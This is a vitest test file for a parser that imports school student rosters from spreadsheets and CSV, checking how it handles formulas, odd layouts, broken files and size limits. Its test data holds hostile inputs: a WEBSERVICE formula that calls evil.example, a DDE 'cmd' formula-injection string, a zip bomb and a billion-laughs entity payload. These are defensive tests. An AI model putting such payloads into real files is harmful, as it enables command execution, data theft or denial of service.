import { readdir, readFile } from 'node:fs/promises'
import { describe, expect, it } from 'vitest'
import outcomes from './corpus-outcomes.json' with { type: 'json' }
import { limits } from './limits.ts'
import { outcomeOf } from './testing/outcome.ts'
import { readTable } from './table.ts'
import { type MadeCell, workbookFile, zipFile } from './testing/workbook-file.ts'

const folder = new URL('corpus/', import.meta.url)

describe('files of schools', () => {
  it('all have an outcome', async () => {
    expect((await readdir(folder)).toSorted()).toEqual(Object.keys(outcomes).toSorted())
  })

  it.each(Object.entries(outcomes))('%s', async (name, expected) => {
    expect(await outcomeOf(await readFile(new URL(name, folder)))).toEqual(expected)
  })
})

const headings = ['Nombre', 'Apellidos', 'Correo']
const ana = ['Ana', 'García Soler', 'ana@centro.es']
const columns = 'Nombre=first_name | Apellidos=last_names | Correo=email'
const student = 'García + Soler + Ana · ana@centro.es'

describe('workbooks', () => {
  it('give the cached value of a formula and compute nothing; text that begins like a formula stays text', async () => {
    const rows: MadeCell[][] = [
      headings,
      [{ formula: 'PROPER("ana")', cached: 'Ana' }, 'García Soler', { formula: 'LOWER("ANA@CENTRO.ES")', cached: 'ana@centro.es' }],
      [{ formula: 'WEBSERVICE("http://evil.example")' }, 'Pérez Gil', 'luis@centro.es'],
      ["=cmd|' /C calc'!A0", 'Sanz Mora', '+34600@centro.es'],
      [{ formula: 'VLOOKUP(1,X,2)', cached: '#N/A' }, 'Mora', 'sara@centro.es'],
    ]
    expect(await outcomeOf(await workbookFile([{ name: 'Alumnado', rows }]))).toEqual([
      'xlsx Alumnado · headings 1 · 4 rows, 0 blank',
      columns,
      `2: ${student}`,
      '3: Pérez + Gil +  · luis@centro.es ✗ name_missing',
      "4: Sanz + Mora + =cmd|' /C calc'!A0 · +34600@centro.es ✗ name_wrong",
      '5: Mora +  + #N/A · sara@centro.es ✗ name_wrong',
    ])
  })

  it('are read from their first visible sheet with rows, in any prefix, with text in runs, numbers and blank rows', async () => {
    const rows: MadeCell[][] = [
      ['Listado del centro'],
      [],
      ['Alumno/a', 'Teléfono', null, 'Correo', 'Repite'],
      [{ runs: ['García ', 'Soler', ', Ana'] }, 612345678, null, 'ana@centro.es', true],
      [],
      ['', '', '', '', ''],
      ['Pérez & Gil, Luis', 6.12345678e8, null, 'luis@centro.es', false],
    ]
    const sheets = [
      { name: 'Oculta', hidden: true, rows: [headings, ana] },
      { name: 'Vacía', rows: [] },
      { name: '1.º "DAM" & DAW', rows },
    ]
    expect(await outcomeOf(await workbookFile(sheets, { prefix: 'x' }))).toEqual([
      'xlsx 1.º "DAM" & DAW · headings 3 · 2 rows, 2 blank',
      'Alumno/a=full_name | Teléfono=not kept | C=? | Correo=email | Repite=not kept',
      `4: ${student}`,
      '7: Pérez + & Gil + Luis · luis@centro.es ✗ name_wrong',
    ])
  })

  it('are read from the sheet with the list, which a cover or instructions with a heading may precede', async () => {
    const cover: MadeCell[][] = [['IES Ribera del Duero'], ['Relación de alumnado'], ['Curso 2026/2027']]
    const help: MadeCell[][] = [
      ['Columna', 'Qué es'],
      ['Nombre', 'El de pila'],
      ['Correo', 'El del centro'],
    ]
    const sheets = [
      { name: 'Portada', rows: cover },
      { name: 'Instrucciones', rows: help },
      { name: '1.º A', rows: [headings, ana] },
      { name: '1.º B', rows: [headings, ['Luis', 'Pérez', 'luis@centro.es']] },
      { name: 'Plantilla', rows: [headings] },
    ]
    const file = await workbookFile(sheets)
    expect(await outcomeOf(file)).toEqual(['xlsx 1.º A · headings 1 · 1 rows, 0 blank', columns, `2: ${student}`])
    expect((await readTable(file)).sheets.map(({ sheet, rows }) => [sheet, rows.length])).toEqual([
      ['Portada', 3],
      ['Instrucciones', 1],
      ['1.º A', 1],
      ['1.º B', 1],
    ])
  })

  it('are read where another sheet is broken', async () => {
    const sheet = (rows: string) => `<worksheet><sheetData>${rows}</sheetData></worksheet>`
    const cells = [headings, ana].map((row) => row.map((text) => `<c t="inlineStr"><is><t>${text}</t></is></c>`).join(''))
    const file = await zipFile([
      ['xl/workbook.xml', '<workbook><sheets><sheet name="A" r:id="a"/><sheet name="B" r:id="b"/></sheets></workbook>'],
      [
        'xl/_rels/workbook.xml.rels',
        '<Relationships><Relationship Id="a" Target="worksheets/1.xml"/><Relationship Id="b" Target="worksheets/2.xml"/></Relationships>',
      ],
      ['xl/worksheets/1.xml', sheet('<row><c><v>1</row>')],
      ['xl/worksheets/2.xml', sheet(cells.map((row) => `<row>${row}</row>`).join(''))],
    ])
    expect(await outcomeOf(file)).toEqual(['xlsx B · headings 1 · 1 rows, 0 blank', columns, `2: ${student}`])
  })

  it.each(['abc', '-3', '0', '1e9', '99999999999', '2'])('count on where a row calls itself %s', async (said) => {
    const cell = (text: string) => `<c t="inlineStr"><is><t>${text}</t></is></c>`
    const row = (number: string, cells: readonly string[]) => `<row r="${number}">${cells.map(cell).join('')}</row>`
    const rows = [row('1', headings), row('2', ana), row(said, ['Luis', 'Pérez Gil', 'luis@centro.es'])].join('')
    const file = await zipFile([
      ['xl/workbook.xml', '<workbook><sheets><sheet name="A" r:id="r"/></sheets></workbook>'],
      ['xl/_rels/workbook.xml.rels', '<Relationships><Relationship Id="r" Target="worksheets/sheet1.xml"/></Relationships>'],
      ['xl/worksheets/sheet1.xml', `<worksheet><sheetData>${rows}</sheetData></worksheet>`],
    ])
    expect(await outcomeOf(file)).toEqual([
      'xlsx A · headings 1 · 2 rows, 0 blank',
      columns,
      `2: ${student}`,
      '3: Pérez + Gil + Luis · luis@centro.es',
    ])
  })

  it('that are empty, cut off or something else are refused with the reason', async () => {
    const whole = await workbookFile([{ name: 'A', rows: [headings, ana] }])
    expect(await outcomeOf(await workbookFile([{ name: 'A', rows: [] }]))).toEqual(['refused: empty_file'])
    expect(await outcomeOf(await workbookFile([{ name: 'A', rows: [headings] }]))).toEqual(['refused: no_rows'])
    expect(await outcomeOf(whole.subarray(0, whole.length - 30))).toEqual(['refused: broken_file'])
    expect(await outcomeOf(await zipFile([['word/document.xml', '<w:document/>']]))).toEqual(['refused: wrong_type'])
    expect(await outcomeOf(await brokenWorkbook('<worksheet><sheetData><row><c><v>1</row>'))).toEqual(['refused: broken_file'])
  })

  it('do not blow up: bombs, lies about size, entities, too many parts', async () => {
    // Nothing but its size is wrong with it.
    const sheet = Buffer.alloc(80 * 1024 * 1024, ' ')
    sheet.write('<worksheet><sheetData>')
    sheet.write('</sheetData></worksheet>', sheet.length - 24)
    const bomb = await brokenWorkbook(sheet)
    expect(bomb.length).toBeLessThan(200_000)
    expect(await outcomeOf(bomb)).toEqual(['refused: too_large_inside'])
    expect(await outcomeOf(lie(bomb, sheet.length))).toEqual(['refused: broken_file'])
    const laughs =
      '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><worksheet><sheetData><row><c t="str"><v>&b;</v></c></row></sheetData></worksheet>'
    expect(await outcomeOf(await brokenWorkbook(laughs))).toEqual(['refused: broken_file'])
    const crowd = Array.from({ length: 2500 }, (_, part) => [`part${part}`, ''] as const)
    expect(await outcomeOf(await zipFile(crowd))).toEqual(['refused: too_large_inside'])
  })
})

/** A workbook with something else in the place of its sheet. */
async function brokenWorkbook(sheet: string | Buffer): Promise<Uint8Array> {
  const list = '<workbook><sheets><sheet name="A" sheetId="1" id="r1"/></sheets></workbook>'
  const links = '<Relationships><Relationship Id="r1" Target="worksheets/sheet1.xml"/></Relationships>'
  return zipFile([
    ['xl/workbook.xml', list],
    ['xl/_rels/workbook.xml.rels', links],
    ['xl/worksheets/sheet1.xml', sheet],
  ])
}

/** The same zip, saying of its largest part that it unpacks to 100 bytes. */
function lie(zip: Uint8Array, size: number): Uint8Array {
  const bytes = Buffer.from(zip)
  const said = Buffer.alloc(4)
  said.writeUInt32LE(size)
  for (let at = bytes.indexOf(said); at !== -1; at = bytes.indexOf(said, at + 4)) bytes.writeUInt32LE(100, at)
  return bytes
}

describe('large lists', () => {
  const line = (row: number) => [`Alumna ${'abcdefghij'[row % 10]}`, `Apellido`, `alumna.${row}@centro.es`]
  const text = (rows: number) =>
    Buffer.from(`${headings.join(';')}\r\n${Array.from({ length: rows }, (_, row) => line(row).join(';')).join('\r\n')}`)
  function* sheet(rows: number): Generator<MadeCell[]> {
    yield headings
    for (let row = 0; row < rows; row += 1) yield line(row)
  }

  it('are read whole up to the limit', async () => {
    const last = [`csv utf-8 ; · headings 1 · ${limits.rows} rows, 0 blank`, columns]
    expect((await outcomeOf(text(limits.rows))).slice(0, 2)).toEqual(last)
    const workbook = await workbookFile([{ name: 'A', rows: sheet(limits.rows) }])
    expect((await outcomeOf(workbook))[0]).toBe(`xlsx A · headings 1 · ${limits.rows} rows, 0 blank`)
  })

  it('of 100,000 rows are refused, as text and as a workbook', async () => {
    expect(await outcomeOf(text(100_000))).toEqual(['refused: too_many_rows'])
    expect(await outcomeOf(await workbookFile([{ name: 'A', rows: sheet(100_000) }]))).toEqual(['refused: too_many_rows'])
  })

  it('of nothing, or in one cell, do not hold everybody else up', async () => {
    const megabytes = limits.bytes
    const began = performance.now()
    expect(await outcomeOf(Buffer.alloc(megabytes, '\n'))).toEqual(['refused: too_many_rows'])
    expect(await outcomeOf(Buffer.alloc(megabytes, ' '))).toEqual(['refused: empty_file'])
    await outcomeOf(Buffer.alloc(megabytes, '"a'))
    await outcomeOf(Buffer.alloc(megabytes, '"\n'))
    // It took half a minute when every blank row was looked at five times.
    expect(performance.now() - began).toBeLessThan(25_000)
  })

  it('are cut in width, not in meaning', async () => {
    const wide = Buffer.from(
      `${[...headings, ...Array.from({ length: 5000 }, () => 'x')].join(',')}\n${[...ana, ...Array.from({ length: 5000 }, () => 'y')].join(',')}\n`,
    )
    const [manner, , first] = await outcomeOf(wide)
    expect([manner, first]).toEqual(['csv utf-8 , · headings 1 · 1 rows, 0 blank', `2: ${student}`])
    expect(await outcomeOf(Buffer.alloc(5_000_000, 'a'))).toEqual([
      'csv utf-8 · headings none · 1 rows, 0 blank',
      'A=?',
      '1:  +  +  ✗ name_missing',
    ])
    expect((await outcomeOf(Buffer.alloc(2_000_000, '"a,')))[0]).toMatch(/^csv utf-8 , · headings none/)
  })
})
